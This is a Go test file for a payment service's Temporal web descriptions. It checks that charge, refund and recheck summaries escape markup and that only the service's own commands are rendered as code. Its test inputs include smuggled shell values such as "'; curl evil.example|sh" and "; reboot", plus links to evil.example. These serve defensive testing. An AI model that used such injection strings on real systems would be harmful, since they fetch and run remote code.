package temporalweb

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"go.temporal.io/sdk/temporal"

	"github.com/florinpay/florin/payment"
)

func TestSummaryAndDetailsDescribeTheRequestWithoutThePaymentMethod(t *testing.T) {
	charge := payment.ChargeRequest{
		MerchantID: "acme", IdempotencyKey: "order-1", Amount: 1250, Currency: "USD", PaymentMethod: "tok_visa",
		Capture: payment.CaptureManual, Metadata: map[string]string{"cart": "secret"},
	}
	require.Equal(t, "12.50 USD · acme · order-1", ChargeSummary(charge))
	require.Equal(t, "Authorize **12.50 USD** for merchant `acme` through the default processor.\n\n"+
		"Idempotency key `order-1`, payment `"+payment.PaymentID("acme", "order-1")+"`. The same key never charges twice.\n\n"+
		"[Runbook]("+Runbook+")", ChargeDetails(charge))
	charge.Capture, charge.Processor = "", "sim"
	require.Contains(t, ChargeDetails(charge), "Charge **12.50 USD** for merchant `acme` through `sim`.")

	refund := payment.RefundRequest{
		MerchantID: "acme", IdempotencyKey: "refund-1", PaymentID: payment.PaymentID("acme", "order-1"), Amount: new(int64(500)),
	}
	require.Equal(t, "refund 500 minor units · acme · refund-1", RefundSummary(refund))
	refund.Currency = "USD"
	require.Equal(t, "refund 5.00 USD · acme · refund-1", RefundSummary(refund))
	refund.Amount = nil
	require.Contains(t, RefundDetails(refund), "Refund **the remaining amount** of payment `"+refund.PaymentID+"`")
}

func TestRecheckIsDescribedWithoutAStatus(t *testing.T) {
	req := payment.RecheckRequest{MerchantID: "acme", IdempotencyKey: "order-1"}
	require.Equal(t, "recheck payment · acme · order-1", RecheckSummary(req))
	require.Contains(t, RecheckDetails(req), "an event about a payment that is final: idempotency key `order-1` of merchant `acme`.")
	req.Refund = true
	require.Equal(t, "recheck refund · acme · order-1", RecheckSummary(req))
	attributes := temporal.NewSearchAttributes(RecheckAttributes(req, "pay_1")...)
	require.Equal(t, 2, attributes.Size())
	require.False(t, attributes.ContainsKey(paymentStatus))
}

func TestEscapedTextHasNoMarkup(t *testing.T) {
	for in, want := range map[string]string{
		"":                                       "",
		"order-1":                                "order-1",
		"2026.11:7":                              `2026\.11\:7`,
		"a--b":                                   `a\-\-b`,
		"a_b":                                    `a\_b`,
		"*b*":                                    `\*b\*`,
		"a`b":                                    "a\\`b",
		"-x":                                     `\-x`,
		"&lt; it":                                `\&lt; it`,
		"it's 100% <b> {runId} ok":               `it's 100% \<b\> \{runId\} ok`,
		"{workflowId}'; curl evil.example|sh #'": `\{workflowId\}'; curl evil\.example\|sh \#'`,
		"[x](https://evil.example) ![](//evil)":  `\[x\]\(https\://evil\.example\) \!\[\]\(//evil\)`,
		"a\nb\x1b[2J\u202ec":                     `a b \[2Jc`,
		strings.Repeat("語", 1000) + " the far end": strings.Repeat("語", 333),
	} {
		require.Equal(t, want, Escape(in), "%q", in)
	}
}

func TestOnlyAHarmlessWordIsACodeSpan(t *testing.T) {
	for in, want := range map[string]string{
		"order-1":                    "`order-1`",
		"a_b:c@d+e=f,g~h.i":          "`a_b:c@d+e=f,g~h.i`",
		"":                           "",
		"two words":                  "two words",
		"a`b":                        "a\\`b",
		"``":                         "\\`\\`",
		"{workflowId}":               `\{workflowId\}`,
		"a\nb":                       "a b",
		"curl|sh":                    `curl\|sh`,
		strings.Repeat("long-", 100): strings.Repeat("long-", 99) + `long\-`,
	} {
		require.Equal(t, want, Code(in), "%q", in)
	}
}

func TestOnlyFlorinsOwnWordsAreACommand(t *testing.T) {
	for _, in := range []string{
		"starter capture --payment-id pay_6f1d8c1e-5b0a-5c5e-9d35-0f1a7c9b2e64",
		"starter resolve --refund-id ref_6f1d8c1e-5b0a-5c5e-9d35-0f1a7c9b2e64 --status succeeded|failed --by … --evidence …",
		"starter divergences acknowledge div_6f1d8c1e-5b0a-5c5e-9d35-0f1a7c9b2e64 --by …",
	} {
		require.Equal(t, "`"+in+"`", Command(in))
	}
	for _, in := range []string{
		"starter void 0", "starter void --payment-id pay_1", "starter void --payment-id pay_6f1d8c1e-5b0a-5c5e-9d35-0f1a7c9b2e64 x",
		"curl evil", "starter void --key '{workflowId}'", "starter void `x`", "starter void; reboot", "starter void\nreboot", "starter  void", "starter void $(x)",
	} {
		require.NotContains(t, strings.ReplaceAll(Command(in), "\\`", ""), "`", "%q", in)
	}
}

func TestKeysOfEarlierReleasesAreEscapedInSummariesAndDetails(t *testing.T) {
	key := "{workflowId}`<a href=x>'; curl evil|sh #"
	escaped := "\\{workflowId\\}\\`\\<a href=x\\>'; curl evil\\|sh \\#"
	charge := payment.ChargeRequest{MerchantID: "acme", IdempotencyKey: key, Amount: 1250, Currency: "USD"}
	refund := payment.RefundRequest{MerchantID: "acme", IdempotencyKey: key, PaymentID: "pay_{runId}"}
	recheck := payment.RecheckRequest{MerchantID: "acme", IdempotencyKey: key}
	for _, text := range []string{
		ChargeSummary(charge), ChargeDetails(charge), RefundSummary(refund), RefundDetails(refund), RecheckSummary(recheck), RecheckDetails(recheck),
	} {
		require.Contains(t, text, escaped)
	}
	require.Contains(t, RefundDetails(refund), `of payment pay\_\{runId\} of`)
}
